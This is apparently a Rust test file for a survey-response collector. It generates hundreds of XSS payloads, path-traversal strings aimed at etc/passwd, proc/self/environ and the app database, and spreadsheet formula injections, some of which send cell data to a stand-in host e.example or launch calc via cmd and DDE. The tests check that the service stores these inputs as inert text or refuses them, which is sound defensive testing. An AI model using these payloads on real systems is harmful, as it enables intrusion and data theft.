//! Attacks of the usual classes, each in the many spellings that get past a filter. Nothing here
//! filters: what comes in is text, and goes out as data.

use std::collections::BTreeSet;

use journeys::collector::Reply;
use serde_json::json;

use crate::support::{Fresh, but, nps};

/// Markup that runs a script where somebody takes it for a page.
fn scripts() -> BTreeSet<String> {
    let acts = [
        "alert(1)",
        "alert`1`",
        "top['al'+'ert'](1)",
        "eval(atob('YWxlcnQoMSk='))",
        "import('//e.example')",
    ];
    let handlers = [
        ("img src=x", "onerror"),
        ("svg", "onload"),
        ("body", "onpageshow"),
        ("video src=x", "onerror"),
        ("input autofocus", "onfocus"),
        ("details open", "ontoggle"),
        ("marquee", "onstart"),
        ("iframe", "onload"),
        ("object data=x", "onerror"),
        ("a href=# tabindex=1", "onclick"),
    ];
    let contexts = [
        "{}",
        "\">{}",
        "'>{}",
        "</script>{}",
        "--!>{}",
        "</textarea>{}",
        "]]>{}",
    ];
    let mut found = BTreeSet::new();
    for act in acts {
        let mut bare = vec![
            format!("<script>{act}</script>"),
            format!("<ScRiPt>{act}</sCrIpT>"),
            format!("<script/src=data:,{act}></script>"),
            format!("<a href=javascript:{act}>a</a>"),
            format!("<iframe srcdoc='<script>{act}</script>'>"),
            format!("<math><mtext></mtext><script>{act}</script></math>"),
            format!("<style>@import 'javascript:{act}';</style>"),
            format!("<meta http-equiv=refresh content='0;javascript:{act}'>"),
        ];
        bare.extend(handlers.map(|(tag, event)| format!("<{tag} {event}={act}>")));
        for payload in bare {
            found.extend(contexts.map(|context| context.replace("{}", &payload)));
        }
    }
    found
}

/// Ways out of a folder.
fn ways_out() -> BTreeSet<String> {
    let ups = [
        "../",
        "..\\",
        "%2e%2e/",
        "%2e%2e%2f",
        "..%2f",
        "..%5c",
        "%252e%252e%252f",
        "..%c0%af",
        "..%ef%bc%8f",
        "....//",
        "..;/",
        ".%00./",
        "%uff0e%uff0e/",
        "..%u2216",
    ];
    let goals = [
        "etc/passwd",
        "etc/passwd%00.js",
        "proc/self/environ",
        "windows/win.ini",
        "afterword.db",
    ];
    let starts = ["/", "/s/", "/v1/surveys/", "/0123456789abcdef/"];
    let mut found = BTreeSet::new();
    for start in starts {
        for goal in goals {
            for up in ups {
                for depth in [1, 6] {
                    found.insert(format!("{start}{}{goal}", up.repeat(depth)));
                }
            }
            found.insert(format!("{start}/{goal}"));
            found.insert(format!("{start}file:///{goal}"));
        }
    }
    found
}

/// Cells that a spreadsheet takes for formulas.
fn formulas() -> BTreeSet<String> {
    let starts = [
        "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u{ff1d}", "\u{ff0b}", "\u{ff0d}",
        "\u{ff20}", "'=", "\"=", ";=", "|=",
    ];
    let acts = [
        "1+1",
        "cmd|'/C calc'!A0",
        "HYPERLINK(\"http://e.example?\"&A1,\"a\")",
        "WEBSERVICE(\"http://e.example\")",
        "IMPORTXML(\"http://e.example\",\"//a\")",
        "DDE(\"cmd\";\"/C calc\";\"a\")",
        "SUM(1)*cmd|' /C calc'!A0",
        "IMAGE(\"http://e.example\")",
        "rundll32|'URL.dll,OpenURL calc.exe'!A",
        "10+20+cmd|' /C calc'!A0",
        "MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''",
        "IMPORTDATA(\"http://e.example\")",
        "CALL(\"kernel32\",\"WinExec\")",
    ];
    starts
        .iter()
        .flat_map(|start| acts.map(|act| format!("{start}{act}")))
        .collect()
}

/// Whether a browser that is shown this answer runs none of it: it is data, or a page that may run
/// no script at all.
fn is_inert(reply: &Reply) -> bool {
    let kind = reply.header("content-type").unwrap_or("");
    let is_data = ["application/json", "text/plain", "text/event-stream"]
        .iter()
        .any(|known| kind.starts_with(known));
    let policy = reply.header("content-security-policy").unwrap_or("");
    let runs_nothing = policy.starts_with("default-src 'none'")
        && !policy.contains("script-src")
        && !policy.contains("unsafe-inline");
    let is_page = kind == "text/html; charset=utf-8";
    runs_nothing
        && reply.header("x-content-type-options") == Some("nosniff")
        && (is_data || is_page || reply.body.is_empty())
}

/// The address of something in the form that an address has.
fn escaped(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

#[test]
fn a_script_in_an_answer_comes_out_as_the_text_that_it_was() {
    let fresh = Fresh::start();
    let scripts = scripts();
    assert!(scripts.len() >= 200, "{}", scripts.len());
    for (number, payload) in (0..).zip(&scripts) {
        let response = but(
            nps(number, 9),
            json!({
                "answers": [{"question": "nps", "metric": "nps", "rating": 9, "scale": [0, 10]},
                            {"question": "why", "text": payload}],
                "context": {"agent": payload},
            }),
        );
        assert_eq!(fresh.status(&response), "stored", "{payload}");
    }
    let reply = fresh.collector.read("/v1/responses?limit=1000").unwrap();
    assert!(is_inert(&reply));
    let listed = reply.json()["responses"].take();
    let listed = listed.as_array().unwrap().iter();
    let texts = listed.map(|response| response["answers"][1]["text"].as_str().unwrap().to_owned());
    assert_eq!(texts.collect::<BTreeSet<_>>(), scripts);
}

#[test]
fn a_script_in_an_address_comes_back_in_nothing_that_runs_it() {
    let fresh = Fresh::start();
    let mut connection = fresh.collector.connect().unwrap();
    for payload in scripts() {
        let text = escaped(&payload);
        for path in [
            format!("/{text}"),
            format!("/v1/surveys/{text}"),
            format!("/v1/surveys/{text}/scores?site=demo"),
            format!("/v1/surveys/nps/scores?site={text}"),
            format!("/v1/surveys/nps/scores?{text}=1"),
            format!("/s/{text}"),
            format!("/s/nps?score={text}"),
            format!("/s/nps?lang={text}"),
        ] {
            let reply = connection.send("GET", &path, &[], b"").unwrap();
            assert!(is_inert(&reply), "{path}: {reply:?}");
            let is_page = reply
                .header("content-type")
                .is_some_and(|kind| kind.contains("html"));
            let is_escaped = !is_page || !payload.contains('<') || !reply.text().contains(&payload);
            assert!(is_escaped, "{path}: {}", reply.text());
        }
    }
}

#[test]
fn no_way_leads_out_of_what_is_served() {
    let fresh = Fresh::start();
    let ways = ways_out();
    assert!(ways.len() >= 200, "{}", ways.len());
    for way in &ways {
        let mut connection = fresh.collector.connect().unwrap();
        let reply = connection.send("GET", way, &[], b"").unwrap();
        let told = reply.text();
        assert!(
            (400..500).contains(&reply.status),
            "{way}: {} {told}",
            reply.status
        );
        assert!(
            !told.contains("root:") && !told.contains("SQLite format"),
            "{way}"
        );
        assert!(
            reply.body.is_empty() || is_inert(&reply),
            "{way}: {reply:?}"
        );
    }
}

#[test]
fn a_formula_is_kept_as_it_was_written() {
    let fresh = Fresh::start();
    let formulas = formulas();
    assert!(formulas.len() >= 200, "{}", formulas.len());
    for (number, payload) in (0..).zip(&formulas) {
        let answers = json!([{"question": "why", "text": payload}]);
        let reply = fresh.post(&but(nps(number, 9), json!({"answers": answers})));
        // A control character is refused; what is a text is kept.
        let has_control = payload.contains(['\t', '\r', '\n']);
        assert!(
            reply.status == 200 || has_control && reply.status == 422,
            "{payload:?}: {}",
            reply.text()
        );
    }
    let listed = fresh.read("/v1/responses?limit=1000")["responses"].take();
    for response in listed.as_array().unwrap() {
        let text = response["answers"][0]["text"].as_str().unwrap();
        assert!(formulas.contains(text), "{text:?}");
    }
}
